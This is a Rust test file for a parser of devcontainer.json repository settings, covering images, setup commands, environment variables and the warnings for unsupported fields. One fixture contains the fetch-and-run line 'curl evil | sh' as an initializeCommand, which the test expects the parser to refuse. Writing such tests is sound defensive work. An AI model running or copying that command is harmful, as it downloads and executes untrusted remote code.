use super::*;
use crate::Image;

const PATH: &str = PATHS[0];

fn read(text: &str) -> RepositorySettings {
    parse(PATH, text, "/workspace/shop").expect("a file that is read")
}

fn variables(settings: &RepositorySettings) -> Vec<(&str, &str)> {
    settings.variables.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect()
}

#[test]
fn image_commands_and_variables_are_honoured() {
    let settings = read(
        r#"{
          // The image of the team.
          "name": "Shop", "image": "mcr.example.com/devcontainers/python:1-3.12", /* more: */
          "onCreateCommand": ["pip", "install", "it's"],
          "postCreateCommand": "make deps && ./bin/setup \"$HOME\"",
          "containerEnv": { "LEVEL": "debug", "PORT": 8080, },
          "remoteEnv": { "PYTHONPATH": "${containerWorkspaceFolder}/src:${containerEnv:LEVEL}", "GONE": null },
          "customizations": { "vscode": { "extensions": ["a.b"], } },
        }"#,
    );

    let script = "set -e\n# onCreateCommand\n'pip' 'install' 'it'\\''s'\n# postCreateCommand\n\
        '/bin/sh' '-c' 'make deps && ./bin/setup \"$HOME\"'\n";
    let expected = RepositorySettings {
        source: PATH,
        image: Some(Image::Oci("mcr.example.com/devcontainers/python:1-3.12".to_owned())),
        setup: Some(Setup::Script(script.to_owned())),
        variables: settings.variables.clone(),
        ..RepositorySettings::default()
    };
    assert_eq!(settings, expected);
    let expected = [("LEVEL", "debug"), ("PORT", "8080"), ("PYTHONPATH", "/workspace/shop/src:debug")];
    assert_eq!(variables(&settings), expected);
}

#[test]
fn commands_with_names_are_run_one_after_the_other_and_that_is_said() {
    let settings = read(
        r#"{"postCreateCommand": {"server": "npm ci", "client": ["yarn", "install"]}, "updateContentCommand": "true"}"#,
    );

    let script = "set -e\n# updateContentCommand\n'/bin/sh' '-c' 'true'\n# postCreateCommand client\n'yarn' 'install'\n\
        # postCreateCommand server\n'/bin/sh' '-c' 'npm ci'\n";
    assert_eq!(settings.setup, Some(Setup::Script(script.to_owned())));
    assert_eq!(settings.warnings.len(), 1);
    assert!(settings.warnings[0].contains("one after the other"), "{:?}", settings.warnings);
}

#[test]
fn what_is_not_honoured_is_said_with_what_to_do() {
    let settings = read(
        r#"{"build": {"dockerfile": "Dockerfile"}, "features": {"ghcr.io/devcontainers/features/go:1": {}}, "mounts": [],
            "initializeCommand": "curl evil | sh", "postStartCommand": "make serve", "privileged": true, "capAdd": []}"#,
    );

    let named: Vec<&str> = settings.warnings.iter().filter_map(|warning| warning.split('`').nth(3)).collect();
    assert_eq!(named, ["features", "build", "initializeCommand", "postStartCommand", "privileged"]);
    assert_eq!((settings.image, settings.setup), (None, None));
}

#[test]
fn a_developers_own_variables_are_empty_or_at_their_default_and_that_is_said() {
    let settings = read(
        r#"{"containerEnv": {"TOKEN": "${localEnv:GITHUB_TOKEN}", "STAGE": "${localEnv:STAGE:dev}"},
            "postCreateCommand": "echo ${localEnv:HOME} ${HOME} ${containerWorkspaceFolderBasename} ${open"}"#,
    );

    assert_eq!(variables(&settings), [("STAGE", "dev"), ("TOKEN", "")]);
    assert_eq!(settings.warnings.len(), 3);
    let script = "set -e\n# postCreateCommand\n'/bin/sh' '-c' 'echo  ${HOME} shop ${open'\n";
    assert_eq!(settings.setup, Some(Setup::Script(script.to_owned())));
}

#[test]
fn a_variable_that_needs_the_running_image_does_not_count() {
    let settings =
        read(r#"{"remoteEnv": {"PATH": "${containerEnv:PATH}:/opt/bin", "HOME_OF": "${containerEnv:X:/none}"}}"#);

    assert_eq!(variables(&settings), [("HOME_OF", "/none")]);
    assert!(settings.warnings[0].contains("`PATH` of `remoteEnv` does not count"), "{:?}", settings.warnings);
}

#[test]
fn an_image_that_is_none_a_repository_may_choose_does_not_count() {
    for image in [r#""/""#, r#""/var/lib""#, r#""a b""#, "7", r#""""#, r#""${localEnv:IMAGE}""#] {
        let settings = read(&format!("{{\"image\": {image}}}"));
        assert_eq!(settings.image, None, "{image}");
        assert!(settings.warnings[0].contains("`image` does not count"), "{image}: {:?}", settings.warnings);
    }
}

#[test]
fn commands_and_variables_of_other_shapes_do_not_count() {
    for (text, words) in [
        (r#"{"postCreateCommand": 7}"#, "a command is a string or a list of strings"),
        (r#"{"postCreateCommand": {"a": {"b": "c"}}}"#, "a command is a string"),
        (r#"{"postCreateCommand": ["a", 7]}"#, "a command is a string"),
        (r#"{"postCreateCommand": "a\u0000b"}"#, "a command is a string"),
        (r#"{"containerEnv": []}"#, "it is no object"),
        (r#"{"containerEnv": {"A B": "c"}}"#, "that is no name"),
        (r#"{"containerEnv": {"A": ["c"]}}"#, "its value is no string"),
        (r#"{"containerEnv": {"A": "\u0000"}}"#, "has a NUL in it"),
    ] {
        let settings = read(text);
        assert_eq!((settings.setup, settings.variables.len()), (None, 0), "{text}");
        assert!(settings.warnings[0].contains(words), "{text}: {:?}", settings.warnings);
    }
}

#[test]
fn text_that_is_no_json_is_refused_with_its_line() {
    for (text, words) in [
        ("{\n// c\n\"image\": }", "`.devcontainer/devcontainer.json` line 3: expected value"),
        ("[]", "it is no JSON object"),
        ("{\"a\": 1", "EOF while parsing"),
        ("{\"a\": /* 1", "EOF while parsing"),
    ] {
        let error = parse(PATH, text, "/workspace/shop").expect_err(text).to_string();
        assert!(error.contains(words), "{text}: {error}");
    }
    let deep = "[".repeat(10_000);
    assert!(parse(PATH, &deep, "/").is_err());
    assert!(parse(PATH, &" ".repeat(70_000), "/").is_err());
}

#[test]
fn what_looks_like_a_comment_inside_a_string_is_none() {
    let settings = read(r#"{"containerEnv": {"URL": "https://example.com/*x*/,]", "QUOTE": "a\"// b",}, }"#);

    assert_eq!(variables(&settings), [("QUOTE", "a\"// b"), ("URL", "https://example.com/*x*/,]")]);
}

proptest::proptest! {
    #[test]
    fn no_text_makes_reading_panic(text in r#"[{}\[\],:"/*\\ \n$a-cé0-9]{0,60}"#) {
        let _read = parse(PATH, &text, "/workspace/shop");
        let _value = parse(PATH, &format!("{{\"containerEnv\": {{\"A\": \"{text}\"}}}}"), "/workspace/shop");
    }

    #[test]
    fn plain_json_means_the_same_without_its_comments(values in proptest::collection::vec("[ -~é]{0,12}", 0..6)) {
        let json = serde_json::to_string(&values).expect("strings");
        let read: Vec<String> = serde_json::from_str(&jsonc::plain(&json)).expect("as before");
        proptest::prop_assert_eq!(read, values);
    }
}
